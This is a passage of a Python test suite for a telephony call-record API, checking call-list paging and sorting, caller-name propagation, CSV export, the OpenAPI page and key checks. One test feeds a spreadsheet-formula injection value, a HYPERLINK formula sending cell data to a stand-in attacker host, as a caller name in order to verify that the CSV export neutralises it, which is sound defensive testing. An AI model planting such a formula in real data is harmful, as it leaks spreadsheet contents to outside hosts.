    every = await get_json(api, "/api/v1/cloud/user-calls", h, users="1001", limit=1000)
    some = await get_json(api, "/api/v1/cloud/user-calls", h, users="1001", offset=5, limit=3)
    assert some["items"] == every["items"][5:8] and some["total"] == every["total"]
    longest = await get_json(
        api, "/api/v1/cloud/user-calls", h, users="1001", sort="duration", limit=1000
    )
    durations = [c["duration"] for c in longest["items"]]
    assert durations == sorted(durations, reverse=True)
    oldest = await get_json(
        api, "/api/v1/cloud/user-calls", h, users="1001", order="asc", limit=1000
    )
    assert [c["date"] for c in oldest["items"]] == sorted(c["date"] for c in every["items"])
    for query in (
        {},
        {"users": ""},
        {"users": "1001", "sort": "start"},
        {"users": "1001", "user": "x"},
        {"users": "1001", "limit": "0"},
    ):
        await get_json(api, "/api/v1/cloud/user-calls", h, 400, **query)
    await get_json(api, "/api/v1/cloud/queue-calls", h, 400)


async def test_the_name_a_carrier_presented_reaches_the_apis(api: Api) -> None:
    """The recorded call, had its carrier presented the caller's name: stored (a second
    save of the same call, as a restarted bridge would make) and shown by the native call
    and its list, and as the cloud-PBX lists' caller_name."""
    await seed_directory(api.pool)
    tracker = LAB22.tracker()
    outputs = [
        o for t, ev in with_caller_name(LAB22.events("in_answered")) for o in tracker.feed(ev, t)
    ]
    await CallStore(api.pool, "lab").save(outputs)
    (record,) = [o for o in outputs if isinstance(o, CallRecord)]
    h = await client(api)
    assert (await get_json(api, f"/api/v1/calls/{record.callid}", h))["phone_name"] == NAME
    page = await get_json(api, "/api/v1/calls", h, phone=record.phone, limit=1000)
    assert {c["callid"]: c["phone_name"] for c in page["items"]}[record.callid] == NAME
    mine = await get_json(api, "/api/v1/cloud/user-calls", h, users=record.ext, limit=1000)
    cloud = {c["call_id"]: c for c in mine["items"]}[record.callid]
    assert (cloud["type"], cloud["caller_name"], cloud["caller_id"]) == (
        "inbound",
        NAME,
        record.phone,
    )
    others = [c["caller_name"] for c in mine["items"] if c["type"] == "inbound"]
    assert others.count(NAME) == 1, "the lab's carrier presents no name: the others have none"


async def test_a_name_a_spreadsheet_would_run_is_exported_as_text(api: Api) -> None:
    """A caller chooses the name it presents: in the CSV export a cell that would start a
    formula is quoted as text; the JSON keeps the name as it came."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Ivan")'
    tracker = LAB22.tracker()
    events = with_caller_name(LAB22.events("in_answered"), formula)
    outputs = [o for t, ev in events for o in tracker.feed(ev, t)]
    await CallStore(api.pool, "lab").save(outputs)
    (record,) = [o for o in outputs if isinstance(o, CallRecord)]
    h = await client(api)
    assert (await get_json(api, f"/api/v1/calls/{record.callid}", h))["phone_name"] == formula
    async with api.http.get("/api/v1/calls.csv", headers=h) as resp:
        assert resp.status == 200
        header, *rows = list(csv.reader(io.StringIO(await resp.text())))
    assert header[-1] == "phone_name", "a new column comes last"
    exported = {row[0]: dict(zip(header, row, strict=True)) for row in rows}[record.callid]
    assert exported["phone_name"] == "'" + formula
    assert all(not row[-1].startswith(("=", "+", "-", "@")) for row in rows)


# ---------------------------------------------------------------- the document


async def test_the_openapi_document_and_its_page_need_no_key(api: Api) -> None:
    await api.key("crm")
    doc = await get_json(api, "/api/v1/openapi.json", {})
    assert doc["openapi"] == "3.1.0"
    assert doc == json.loads(json.dumps(document()))
    async with api.http.get("/api/v1/docs") as resp:
        assert resp.status == 200 and resp.content_type == "text/html"
        page = await resp.text()
    assert "<script" not in page and "http" not in page.replace("http(s)", "").replace(
        "https://", ""
    ).replace("HTTP", ""), "self-contained: nothing to load from elsewhere"
    for path in doc["paths"]:
        assert escape(f"/api/v1{path}") in page


async def test_everything_else_needs_a_key(api: Api) -> None:
    await api.key("crm")
    for path, methods in document()["paths"].items():
        for method, operation in methods.items():
            if operation.get("security") == []:
                continue
            url = "/api/v1" + path.replace("{callid}", "x").replace("{login}", "1001").replace(
                "{id}", "1"
            ).replace("{telnum}", "74957654321").replace("{name}", "billing")
            async with api.http.request(method.upper(), url, json={}) as resp:
                assert resp.status == 401, (method, path)
                assert (await resp.json())["message"]


def test_every_route_is_in_the_document_and_nothing_else() -> None:
    services = SimpleNamespace(keys=None)
    app = create_native_app(services)  # type: ignore[arg-type]
    routes = {
        (r.method.lower(), r.resource.canonical)
        for r in app.router.routes()
        if r.method != "HEAD" and r.resource is not None
    }
    documented = {(m, p) for p, methods in document()["paths"].items() for m in methods}
    assert routes == documented
